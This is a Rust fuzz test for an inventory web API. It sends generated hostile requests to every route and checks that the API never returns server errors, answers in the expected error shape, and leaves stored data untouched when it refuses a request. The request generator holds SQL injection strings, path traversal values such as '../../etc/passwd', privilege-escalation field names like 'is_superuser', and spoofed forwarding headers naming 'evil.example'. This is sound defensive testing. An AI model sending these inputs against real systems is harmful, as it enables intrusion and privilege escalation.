        let mut obj = serde_json::Map::new();
        if depth > 4 {
            return Json::Object(obj);
        }
        let one = kind == BodyKind::OneHostile;
        let skip = if one { 0.03 } else { 0.15 };
        for (name, s) in &props {
            // Read-only fields are documented too; sending them is harmless, leaving some
            // out exercises the required-field checks.
            if self.chance(skip) {
                continue;
            }
            // A stale `version` is a 409 before anything else is looked at: mostly leave
            // it out so the other fields get checked.
            if name == "version" && (one || self.chance(0.7)) {
                continue;
            }
            let v = if one {
                self.plausible(w, name, s, depth)
            } else {
                self.value(w, name, s, depth, kind)
            };
            obj.insert(name.clone(), v);
        }
        if one {
            // One or two text fields hostile, the rest plausible: these reach the store.
            let texts: Vec<String> = props
                .iter()
                .filter(|(n, s)| {
                    type_of(self.spec, s) == "string"
                        && enum_of(self.spec, s).is_empty()
                        && resolve(self.spec, s)["format"] != "date"
                        && obj.contains_key(n.as_str())
                })
                .map(|(n, _)| n.clone())
                .collect();
            for _ in 0..self.rng.random_range(1..3) {
                if texts.is_empty() {
                    break;
                }
                let n = self.pick(&texts).clone();
                let v = self.hostile_text();
                obj.insert(n, json!(v));
            }
        }
        Json::Object(obj)
    }

    fn path(
        &mut self,
        w: &World,
        template: &str,
        forced: Option<&'static str>,
    ) -> (String, &'static str) {
        let real = self.chance(0.4);
        let (value, kind) = if !template.contains('{') {
            (String::new(), "none")
        } else if let Some(id) = forced {
            (id.to_owned(), "hostile")
        } else if real {
            let f = &w.fixtures;
            let v = if template.starts_with("/inventory/devices/") {
                f.device.clone()
            } else if template.starts_with("/inventory/locations/") {
                f.location.to_string()
            } else if template.starts_with("/inventory/donors/") {
                f.donor.to_string()
            } else if template.starts_with("/inventory/shipments/") {
                f.shipment.to_string()
            } else if template.contains("{username}") {
                (*self.pick(&["target", "lowly", "root", "ROOT"])).to_owned()
            } else if template.contains("{name}") {
                (*self.pick(&["viewer", "clerks"])).to_owned()
            } else {
                let ids = [f.target, w.low.0, w.su.0];
                self.pick(&ids).to_string()
            };
            (v, "real")
        } else if self.chance(0.1) {
            ("1".repeat(self.rng.random_range(20..5000)), "long")
        } else {
            ((*self.pick(HOSTILE_IDS)).to_owned(), "hostile")
        };
        let mut path = template
            .replace("{id}", &value)
            .replace("{name}", &value)
            .replace("{username}", &value);
        if self.chance(0.2)
            && let Some(bare) = path.strip_suffix('/')
        {
            path = bare.to_owned();
        }
        (path, kind)
    }

    fn query(&mut self, op: &Op) -> (String, &'static str) {
        if self.chance(0.45) {
            return (String::new(), "none");
        }
        if self.chance(0.15) {
            return ((*self.pick(RAW_QUERIES)).to_owned(), "raw");
        }
        if self.chance(0.03) {
            // Long queries (a URI holds at most 64 KB): a 48 KB search, 5,000 ordering keys,
            // 5,000 repeats of a filter.
            let q = match self.rng.random_range(0..3) {
                0 => format!("search={}", "%25_".repeat(12 * 1024)),
                1 => format!("ordering={}", "-id,".repeat(5000)),
                _ => "type=a&".repeat(5000),
            };
            return (q, "long");
        }
        if op.query.iter().any(|(n, _)| n == "model") && self.chance(0.6) {
            // The compatibility batch forms need a model to get anywhere.
            return ("model=device".to_owned(), "model");
        }
        let mut q = form_urlencoded::Serializer::new(String::new());
        let mut names: Vec<String> = op.query.iter().map(|(n, _)| n.clone()).collect();
        // The documented suffix forms and a few undocumented names.
        names.extend(
            op.query
                .iter()
                .filter(|(_, t)| t == "string")
                .map(|(n, _)| format!("{n}__icontains")),
        );
        names.extend(["expand", "page", "ordering", "' OR 1=1 --", "../x"].map(str::to_owned));
        let mut any = false;
        for n in &names {
            if self.chance(0.3) {
                let v = if self.chance(0.2) {
                    let i = self.rng.random_range(0..self.wrong.len());
                    match &self.wrong[i] {
                        Json::String(s) => s.clone(),
                        other => other.to_string(),
                    }
                } else {
                    self.hostile_text()
                };
                q.append_pair(n, &v);
                any = true;
            }
        }
        if !any && let Some((n, _)) = op.query.first() {
            let v = self.hostile_text();
            q.append_pair(n, &v);
        }
        (q.finish(), "hostile")
    }

    fn body(
        &mut self,
        w: &World,
        op: &Op,
        who: Who,
    ) -> (BodyKind, Option<Bytes>, Vec<u8>, Option<Json>) {
        let json_ct = b"application/json".to_vec();
        let has_body = op.body.is_some();
        // Routes without a body get one now and then; routes with one nearly always.
        let roll: u32 = self.rng.random_range(0..100);
        if (!has_body && roll < 60) || roll < 5 {
            return (BodyKind::None, None, Vec::new(), None);
        }
        let schema = op.body.clone().unwrap_or_else(|| json!({"type": "object"}));
        // The superuser mostly sends valid-shaped bodies, so requests reach deep.
        let valid_bias = if who == Who::Superuser { 70 } else { 45 };
        let r: u32 = self.rng.random_range(0..100);
        let kind = if r < valid_bias * 25 / 70 {
            BodyKind::HostileValues
        } else if r < valid_bias * 55 / 70 {
            BodyKind::OneHostile
        } else if r < valid_bias {
            BodyKind::WrongTypes
        } else {
            *self.pick(&[
                BodyKind::ExtraFields,
                BodyKind::BrokenJson,
                BodyKind::BrokenJson,
                BodyKind::DeepNesting,
                BodyKind::NonObject,
                BodyKind::InvalidUtf8,
                BodyKind::InvalidUtf8,
                BodyKind::WrongContentType,
                BodyKind::WrongContentType,
                BodyKind::HugeString,
                BodyKind::Oversized,
                BodyKind::HostileValues,
            ])
        };
        let object = |g: &mut Self, kind| g.object(w, &schema, 0, kind);
        match kind {
            BodyKind::HostileValues | BodyKind::OneHostile | BodyKind::WrongTypes => {
                let v = object(self, kind);
                (kind, Some(Bytes::from(v.to_string())), json_ct, Some(v))
            }
            BodyKind::ExtraFields => {
                let mut v = object(self, BodyKind::HostileValues);
                let extra = [
                    "is_superuser",
                    "is_staff",
                    "permissions",
                    "role",
                    "role_id",
                    "groups",
                    "user_permissions",
                    "id",
                    "version",
                    "created_by",
                    "__proto__",
                    "' OR 1=1 --",
                    "",
                ];
                if let Some(o) = v.as_object_mut() {
                    for _ in 0..self.rng.random_range(1..4) {
                        let k = (*self.pick(&extra)).to_owned();
                        let val = match self.rng.random_range(0..4) {
                            0 => json!(true),
                            1 => json!(["manageUsers", "viewAuditLog"]),
                            2 => json!(1),
                            _ => json!(self.hostile_text()),
                        };
                        o.insert(k, val);
                    }
                }
                (kind, Some(Bytes::from(v.to_string())), json_ct, Some(v))
            }
            BodyKind::BrokenJson => {
                let valid = object(self, BodyKind::HostileValues).to_string();
                let broken: Vec<u8> = match self.rng.random_range(0..10) {
                    0 => valid.as_bytes()[..valid.len() / 2].to_vec(),
                    1 => b"{'username': 'admin'}".to_vec(),
                    2 => b"{\"a\":1,}".to_vec(),
                    3 => b"{\"a\":1}{\"b\":2}".to_vec(),
                    4 => b"/* comment */ {}".to_vec(),
                    5 => format!("\u{FEFF}{valid}").into_bytes(),
                    6 => b"{\"a\":\"\\uD800\"}".to_vec(),
                    7 => b"{\"a\": 1e99999}".to_vec(),
                    8 => b"{\"a\" 1}".to_vec(),
                    _ => (0..self.rng.random_range(1..200))
                        .map(|_| self.rng.random::<u8>())
                        .collect(),
                };
                (kind, Some(Bytes::from(broken)), json_ct, None)
            }
            BodyKind::DeepNesting => {
                let b = if self.chance(0.5) {
                    self.nested_arrays.clone()
                } else {
                    self.nested_objects.clone()
                };
                (kind, Some(b), json_ct, None)
            }
            BodyKind::NonObject => {
                let v = self
                    .pick(&[
                        json!([]),
                        json!([{}]),
                        json!("a string"),
                        json!(42),
                        Json::Null,
                        json!(true),
                    ])
                    .clone();
                (kind, Some(Bytes::from(v.to_string())), json_ct, Some(v))
            }
            BodyKind::InvalidUtf8 => {
                let mut valid = object(self, BodyKind::HostileValues)
                    .to_string()
                    .into_bytes();
                let bads: [&[u8]; 4] = [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x80"];
                let bad = *self.pick(&bads);
                let bytes = if self.chance(0.5) {
                    // Inside a string value: `{"k":"<bad>"...`.
                    let mut b = b"{\"name\":\"".to_vec();
                    b.extend_from_slice(bad);
                    b.extend_from_slice(b"\"}");
                    b
                } else {
                    let at = self.rng.random_range(0..valid.len().max(1));
                    for (i, byte) in bad.iter().enumerate() {
                        valid.insert((at + i).min(valid.len()), *byte);
                    }
                    valid
                };
                (kind, Some(Bytes::from(bytes)), json_ct, None)
            }
            BodyKind::WrongContentType => {
                let v = object(self, BodyKind::HostileValues);
                let ct = self.pick(WRONG_CONTENT_TYPES).to_vec();
                (kind, Some(Bytes::from(v.to_string())), ct, None)
            }
            BodyKind::HugeString => (kind, Some(self.huge.clone()), json_ct, None),
            BodyKind::Oversized => {
                let b = if op.template == "/inventory/batch/" {
                    self.oversized_batch.clone()
                } else {
                    self.oversized.clone()
                };
                (kind, Some(b), json_ct, None)
            }
            BodyKind::None => (kind, None, Vec::new(), None),
        }
    }

    fn case(&mut self, w: &World, ops: &[Op], forced: Option<&Forced>) -> Case {
        let total: u32 = self.weights.iter().sum();
        let mut roll = self.rng.random_range(0..total);
        let mut index = 0;
        for (i, w) in self.weights.iter().enumerate() {
            if roll < *w {
                index = i;
                break;
            }
            roll -= w;
        }
        let op = ops[forced.map_or(index, |f| f.op)].clone();
        let who = match self.rng.random_range(0..100) {
            0..55 => Who::Superuser,
            55..75 => Who::Low,
            75..80 => Who::Anonymous,
            _ => Who::Bad(self.rng.random_range(0..w.bad_tokens.len())),
        };
        let who = forced.and_then(|f| f.who).unwrap_or(who);
        let (path, id_kind) = self.path(w, &op.template, forced.and_then(|f| f.id));
        let (query, query_kind) = match forced.and_then(|f| f.query.clone()) {
            Some(q) => (q, "hostile"),
            None => self.query(&op),
        };
        let (body_kind, body, content_type, json) = self.body(w, &op, who);
        // Now and then an odd method on the path instead of the documented one.
        let method = if let Some(m) = forced.and_then(|f| f.method) {
            m.to_owned()
        } else if self.chance(0.03) {
            (*self.pick(&["HEAD", "OPTIONS", "TRACE", "PROPFIND", "PATCH", "DELETE"])).to_owned()
        } else {
            op.method.clone()
        };
        let uri = if query.is_empty() {
            path.clone()
        } else {
            format!("{path}?{query}")
        };
        let mut b = Request::builder()
            .method(Method::from_bytes(method.as_bytes()).expect("a method"))
            .uri(&uri)
            .header(header::HOST, "rehome.test");
        match who {
            Who::Superuser => b = b.header(header::AUTHORIZATION, format!("Bearer {}", w.su.1)),
            Who::Low => b = b.header(header::AUTHORIZATION, format!("Bearer {}", w.low.1)),
            Who::Anonymous => {}
            Who::Bad(i) => {
                let t = &w.bad_tokens[i].1;
                let value = match self.rng.random_range(0..8) {
                    0 => format!("bearer    {t}   "),
                    1 => format!("Basic {t}"),
                    2 => format!("Bearer {t} {t}"),
                    _ => format!("Bearer {t}"),
                };
                b = b.header(header::AUTHORIZATION, value);
                if self.chance(0.1) {
                    // Not even text.
                    b = b.header(
                        header::AUTHORIZATION,
                        HeaderValue::from_bytes(b"Bearer \xff\xfe")
                            .expect("obs-text is a valid header value"),
                    );
                }
            }
        }
        if !content_type.is_empty() || body.is_some() {
            if content_type.is_empty() {
                // No Content-Type at all.
            } else if let Ok(v) = HeaderValue::from_bytes(&content_type) {
                b = b.header(header::CONTENT_TYPE, v);
            }
        }
        if self.chance(0.08) {
            let tags: &[&[u8]] = &[
                b"\"abc\"",
                b"W/\"1\"",
                b"*",
                b"\"1\", \"2\"",
                b"\xff",
                b"\"99999999999999999999999\"",
            ];
            let t = self.pick(tags);
            b = b.header(
                header::IF_MATCH,
                HeaderValue::from_bytes(t).expect("a header value"),
            );
        }
        if self.chance(0.15) {
            let xff = *self.pick(&[
                "' OR 1=1 --, 999.999.1.1",
                "203.0.113.9",
                "198.51.100.1, 203.0.113.9",
                "::1",
                "2001:db8::1, ,,",
                "../../etc/passwd",
                "",
            ]);
            b = b.header("x-forwarded-for", xff);
            if self.chance(0.3) {
                b = b.header("x-forwarded-proto", "javascript");
                b = b.header("x-forwarded-host", "evil.example/path?x=");
            }
        }
        if self.chance(0.05) {
            let origin = *self.pick(&["https://front.example", "null", "' OR 1=1 --"]);
            b = b.header(header::ORIGIN, origin);
            if method == "OPTIONS" {
                b = b.header("access-control-request-method", "DELETE");
            }
        }
        let body_len = body.as_ref().map_or(0, Bytes::len);
        let request = b
            .body(body.map(Body::from).unwrap_or_else(Body::empty))
            .expect("a request");
        Case {
            op,
            who,
            body_kind,
            id_kind,
            query_kind,
            request: Some(request),
            json,
            path,
            line: format!("{method} {uri}"),
            body_len,
        }
    }
}

fn truncate(s: &str, n: usize) -> String {
    if s.len() <= n {
        return s.to_owned();
    }
    let mut end = n;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

/// Whether the world's principals still are what the generator assumes (a superuser and a
/// low-permission user with live tokens): an accepted logout, deactivation or deletion ends
/// the world, and the next cases run in a fresh one.
async fn intact(w: &World) -> bool {
    let su = w.app.core.authenticate(&w.su.1, None).await;
    let low = w.app.core.authenticate(&w.low.1, None).await;
    matches!(su, Ok(c) if c.is_superuser())
        && matches!(low, Ok(c) if !c.is_superuser()
            && c.permissions() == rehome_core::Permissions::from_iter([rehome_core::Permission::ReadDevices]))
}

// ------------------------------------------------------------------------------- the test

#[derive(Default)]
struct Figures {
    cases: usize,
    worlds: usize,
    by_status: BTreeMap<u16, usize>,
    by_who: BTreeMap<String, usize>,
    by_body: BTreeMap<String, usize>,
    by_id: BTreeMap<&'static str, usize>,
    by_query: BTreeMap<&'static str, usize>,
    by_route: BTreeMap<String, usize>,
    accepted_writes: usize,
    round_trips: usize,
    /// Superuser requests by operation and status (printed with `REHOME_FUZZ_VERBOSE`).
    superuser_routes: BTreeMap<String, BTreeMap<u16, usize>>,
    send_time: std::time::Duration,
    world_time: std::time::Duration,
    gen_time: std::time::Duration,
    diff_time: std::time::Duration,
    diffs: usize,
    route_time: BTreeMap<String, std::time::Duration>,
    snapshot_time: std::time::Duration,
}

fn bump<K: Ord>(m: &mut BTreeMap<K, usize>, k: K) {
    *m.entry(k).or_default() += 1;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_requests_never_5xx_and_refusals_change_nothing() {
    let cases = env_number("REHOME_FUZZ_CASES", DEFAULT_CASES as u64) as usize;
    let seed = env_number("REHOME_FUZZ_SEED", DEFAULT_SEED);
    let started = Instant::now();

    let spec = TestApp::new()
        .send(Req::new("GET", "/openapi.json"))
        .await
        .expect(200)
        .json();
    let ops = operations(&spec);
    // Every served route is in the document (openapi.rs checks that), so this covers
    // every route.
    assert!(ops.len() >= 60, "only {} operations", ops.len());

    let huge =
        Bytes::from(json!({ "name": "h".repeat(1_000_000), "notes": "' OR 1=1 --" }).to_string());
    let oversized = Bytes::from(format!(
        "{{\"notes\":\"{}\"}}",
        "o".repeat(1024 * 1024 + 10)
    ));
    let oversized_batch = Bytes::from(format!(
        "{{\"operations\":[],\"pad\":\"{}\"}}",
        "o".repeat(10 * 1024 * 1024 + 10)
    ));
    let nested_arrays = Bytes::from(format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)));
    let nested_objects = Bytes::from(format!(
        "{}1{}",
        "{\"a\":".repeat(10_000),
        "}".repeat(10_000)
    ));
    let mut g = Gen {
        rng: ChaCha8Rng::seed_from_u64(seed),
        spec: &spec,
        n: 0,
        huge,
        oversized,
        oversized_batch,
        nested_arrays,
        nested_objects,
        wrong: wrong_types(),
        weights: ops
            .iter()
            .map(|o| match o.template.as_str() {
                // Large, constant answers (the spec, a QR code): slow in a debug build and
                // the same whatever is sent.
                "/openapi.json" | "/authen/mfa/totp/setup/" => 2,
                "/inventory/devices/{id}/qr.svg" | "/inventory/generate-mock-data/" => 5,
                _ => 10,
            })
            .collect(),
    };

    let mut fig = Figures::default();
    let mut failures: Vec<String> = Vec::new();
    let mut covered: BTreeSet<String> = BTreeSet::new();
    let seed_world = world().await;
    let forced = sweep(&ops, seed_world.bad_tokens.len());
    while fig.cases < cases {
        let t = Instant::now();
        // The server's settings change from app to app: behind a proxy (client addresses
        // from X-Forwarded-For, so address throttles), registration closed, CORS on.
        let settings = match fig.worlds % 4 {
            0 => Settings::default(),
            1 => Settings {
                trust_proxy: true,
                ..Settings::default()
            },
            2 => Settings {
                registration: rehome_http::Registration::Closed,
                cors_origins: vec!["*".into()],
                ..Settings::default()
            },
            _ => Settings {
                trust_proxy: true,
                cors_origins: vec!["https://front.example".into(), "' OR 1=1 --".into()],
                ..Settings::default()
            },
        };
        let w = fork(&seed_world, settings).await;
        fig.world_time += t.elapsed();
        fig.worlds += 1;
        let mut before = raw(&w.store);
        let through_trait = snapshot(&w.store).await;
        assert_eq!(
            records(&before),
            through_trait,
            "the raw copy misses records"
        );
        if fig.worlds == 1 && std::env::var_os("REHOME_FUZZ_VERBOSE").is_some() {
            println!(
                "seed store: {} records, {} entries, {} bytes",
                through_trait.len(),
                before.len(),
                before.bytes.len()
            );
        }
        let kinds: BTreeSet<_> = through_trait.keys().map(|k| k.collection()).collect();
        assert!(
            kinds.len() == Collection::ALL.len(),
            "the seed data lacks collections: {kinds:?}"
        );
        for _ in 0..EPOCH {
            if fig.cases >= cases {
                break;
            }
            let tg = Instant::now();
            let mut case = g.case(&w, &ops, forced.get(fig.cases));
            let request = case.request.take().expect("a request");
            fig.gen_time += tg.elapsed();
            fig.cases += 1;
            covered.insert(case.op.key());
            bump(&mut fig.by_route, case.op.key());
            bump(
                &mut fig.by_who,
                match case.who {
                    Who::Bad(i) => format!("bad token: {}", w.bad_tokens[i].0),
                    other => format!("{other:?}"),
                },
            );
            bump(&mut fig.by_body, format!("{:?}", case.body_kind));
            bump(&mut fig.by_id, case.id_kind);
            bump(&mut fig.by_query, case.query_kind);
            let is_head = request.method() == Method::HEAD;
            let method = request.method().clone();
            let t0 = Instant::now();
            let resp: Resp = w.app.send_request(request).await;
            let t1 = Instant::now();
            *fig.route_time.entry(case.op.key()).or_default() += t1 - t0;
            let status = resp.status.as_u16();
            bump(&mut fig.by_status, status);
            if std::env::var("REHOME_FUZZ_SHOW").is_ok_and(|r| r == case.op.key())
                && case.who == Who::Superuser
            {
                println!(
                    "{status} {}\n  -> {}",
                    case.summary(),
                    truncate(&resp.text(), 300)
                );
            }
            if case.who == Who::Superuser {
                bump(
                    fig.superuser_routes.entry(case.op.key()).or_default(),
                    status,
                );
            }
            let after = raw(&w.store);
            fig.send_time += t1 - t0;
            fig.snapshot_time += t1.elapsed();
            let what = &case.summary();

            if status >= 500 {
                failures.push(format!(
                    "{status} for {what}: {}",
                    truncate(&resp.text(), 500)
                ));
            }
            if (400..500).contains(&status) && !is_head {
                let ct = resp.header("content-type").unwrap_or_default();
                let body: Option<Json> = serde_json::from_slice(&resp.body).ok();
                if !ct.starts_with("application/json") || !body.as_ref().is_some_and(is_error_shape)
                {
                    failures.push(format!(
                        "{status} ({ct}) not in the error shape for {what}: {}",
                        truncate(&resp.text(), 500)
                    ));
                }
            }
            if (400..500).contains(&status) && before != after {
                let td = Instant::now();
                let (old, new, other) = changed_records(&before, &after);
                let mut changed = forbidden_changes(&old, &new, &case.op.template);
                // Indexes and counts follow their records: one that changes without a record
                // change is wrong in itself; with one, it is allowed where the record is.
                if old.is_empty() && new.is_empty() {
                    changed.extend(other);
                }
                fig.diff_time += td.elapsed();
                fig.diffs += 1;
                if !changed.is_empty() {
                    failures.push(format!(
                        "{status} for {what} changed the store:\n    {}",
                        changed.join("\n    ")
                    ));
                }
            }
            let write = [Method::POST, Method::PUT, Method::PATCH].contains(&method);
            if (200..300).contains(&status) && write {
                fig.accepted_writes += 1;
                if let (Some(sent), Ok(got)) =
                    (&case.json, serde_json::from_slice::<Json>(&resp.body))
                {
                    let mut problems = round_trip_failures(sent, &got);
                    // Read it back where the object has a URL of its own.
                    let url = resp.header("location").or_else(|| {
                        (method != Method::POST
                            && !case.op.template.contains("batch")
                            && (case.op.template.contains("{id}")
                                || case.op.template.contains("{name}")))
                        .then(|| case.path.clone())
                    });
                    if let Some(url) = url
                        && got.is_object()
                    {
                        let back = w.app.get(&url, &w.su.1).await;
                        if back.status == 200 {
                            fig.round_trips += 1;
                            if back.json() != got {
                                problems.push(format!(
                                    "read back differs: {} vs {}",
                                    truncate(&back.text(), 400),
                                    truncate(&got.to_string(), 400)
                                ));
                            }
                        }
                    }
                    if !problems.is_empty() {
                        failures.push(format!(
                            "{status} for {what} did not store what it accepted: {}",
                            problems.join("; ")
                        ));
                    }
                }
            }
            if failures.len() > 30 {
                break;
            }
            before = if (200..300).contains(&status) {
                let ok = intact(&w).await;
                if !ok {
                    break;
                }
                raw(&w.store)
            } else {
                after
            };
        }
        if failures.len() > 30 {
            break;
        }
    }

    let elapsed = started.elapsed();
    let mut report = String::new();
    report.push_str(&format!(
        "hostile: {} cases (seed {seed:#x}) over {} operations in {} fresh apps, {:.1} s\n",
        fig.cases,
        covered.len(),
        fig.worlds,
        elapsed.as_secs_f64()
    ));
    report.push_str(&format!(
        "  of which {} an opening sweep (every operation x every caller, every path x \
         every method, every hostile id, every documented query parameter)\n",
        forced.len().min(fig.cases)
    ));
    report.push_str(&format!("  statuses: {:?}\n", fig.by_status));
    report.push_str(&format!("  callers: {:?}\n", fig.by_who));
    report.push_str(&format!("  bodies: {:?}\n", fig.by_body));
    report.push_str(&format!("  path ids: {:?}\n", fig.by_id));
    report.push_str(&format!("  queries: {:?}\n", fig.by_query));
    report.push_str(&format!(
        "  accepted writes: {}, read back: {}\n",
        fig.accepted_writes, fig.round_trips
    ));
    let min_route = fig.by_route.values().min().copied().unwrap_or(0);
    report.push_str(&format!(
        "  per operation: min {min_route}, max {}\n",
        fig.by_route.values().max().copied().unwrap_or(0)
    ));
    report.push_str(&format!(
        "  time making apps {:.1} s, sending {:.1} s, snapshotting {:.1} s\n",
        fig.world_time.as_secs_f64(),
        fig.send_time.as_secs_f64(),
        fig.snapshot_time.as_secs_f64()
    ));
    if std::env::var_os("REHOME_FUZZ_VERBOSE").is_some() {
        report.push_str(&format!(
            "  generating {:.1} s, {} diffs {:.1} s\n",
            fig.gen_time.as_secs_f64(),
            fig.diffs,
            fig.diff_time.as_secs_f64()
        ));
        let mut slow: Vec<_> = fig.route_time.iter().collect();
        slow.sort_by_key(|(_, t)| std::cmp::Reverse(**t));
        for (route, t) in slow.iter().take(8) {
            report.push_str(&format!("  slowest: {route}: {:.2} s\n", t.as_secs_f64()));
        }
        for (route, statuses) in &fig.superuser_routes {
            report.push_str(&format!("  as superuser {route}: {statuses:?}\n"));
        }
    }
    println!("{report}");

    assert!(
        failures.is_empty(),
        "{} failure(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(fig.cases >= cases, "only {} cases ran", fig.cases);
    let all: BTreeSet<String> = ops.iter().map(Op::key).collect();
    let missed: Vec<_> = all.difference(&covered).collect();
    assert!(missed.is_empty(), "operations never tried: {missed:?}");
}

// ------------------------------------------------------------------ the oracle, checked

#[test]
fn the_error_shape_check_accepts_only_the_contract_shapes() {
    for ok in [
        json!({"detail": "Not found."}),
        json!({"name": ["Unknown field."], "email": ["a", "b"]}),
        json!({"detail": "x", "errors": [{"index": 2, "errors": {"a": ["b"]}}]}),
    ] {
        assert!(is_error_shape(&ok), "{ok}");
    }
    for bad in [
        json!({}),
        json!([]),
        json!("text"),
        json!({"detail": 1}),
        json!({"detail": "x", "trace": "at main.rs:1"}),
        json!({"name": "not a list"}),
        json!({"name": []}),
        json!({"name": [1]}),
        json!({"detail": "x", "errors": [{"index": "0", "errors": {}}]}),
    ] {
        assert!(!is_error_shape(&bad), "{bad}");
    }
}

#[tokio::test]
async fn the_store_check_sees_changes_and_allows_only_failed_credentials() {
    let w = world().await;

    // A change to an object is seen, whatever the route.
    let before = raw(&w.store);
    w.app
        .call(
            "PATCH",
            &format!("/inventory/locations/{}/", w.fixtures.location),
            &w.su.1,
            &json!({"city": "York"}),
        )
        .await
        .expect(200);
    let (old, new, _) = changed_records(&before, &raw(&w.store));
    for route in ["/inventory/locations/{id}/", "/authen/login/"] {
        let changes = forbidden_changes(&old, &new, route);
        assert!(
            changes.iter().any(|c| c.starts_with("location")),
            "{route}: {changes:?}"
        );
    }

    // A failed login leaves a throttle record and an audit event: allowed on the login
    // route only.
    let before = raw(&w.store);
    w.app
        .send(
            Req::new("POST", "/authen/login/")
                .json(&json!({"username": "root", "password": "Wrong-Password-1"})),
        )
        .await
        .expect(401);
    let (old, new, _) = changed_records(&before, &raw(&w.store));
    assert!(!new.is_empty(), "a failed login wrote nothing");
    assert_eq!(
        forbidden_changes(&old, &new, "/authen/login/"),
        Vec::<String>::new()
    );
    assert!(!forbidden_changes(&old, &new, "/inventory/devices/").is_empty());

    // A wrong MFA code uses up one attempt of the challenge: allowed on verify only.
    let before = raw(&w.store);
    w.app
        .send(
            Req::new("POST", "/authen/mfa/verify/")
                .json(&json!({"mfa_token": w.mfa_token, "code": "000000"})),
        )
        .await
        .expect(401);
    let (old, new, _) = changed_records(&before, &raw(&w.store));
    assert!(new.keys().any(|k| matches!(k, RecordKey::MfaChallenge(_))));
    assert_eq!(
        forbidden_changes(&old, &new, "/authen/mfa/verify/"),
        Vec::<String>::new()
    );
    assert!(!forbidden_changes(&old, &new, "/authen/login/").is_empty());
}

#[test]
fn only_id_counters_may_change_beside_the_records() {
    let raw_of = |entries: &[(&[u8], &[u8])]| {
        let mut r = Raw::default();
        for (k, v) in entries {
            let start = r.bytes.len();
            r.bytes.extend_from_slice(k);
            r.bytes.extend_from_slice(v);
            r.entries
                .push((start, start + k.len(), start + k.len() + v.len()));
        }
        r
    };
    let before = raw_of(&[(b"\x00n\x01", b"1"), (b"i\x01abc", b"")]);
    let counter = raw_of(&[(b"\x00n\x01", b"2"), (b"i\x01abc", b"")]);
    let (old, new, other) = changed_records(&before, &counter);
    assert!(old.is_empty() && new.is_empty() && other.is_empty());
    let index = raw_of(&[(b"\x00n\x01", b"1"), (b"i\x01abd", b"")]);
    let (_, _, other) = changed_records(&before, &index);
    assert_eq!(other.len(), 2, "{other:?}");
}
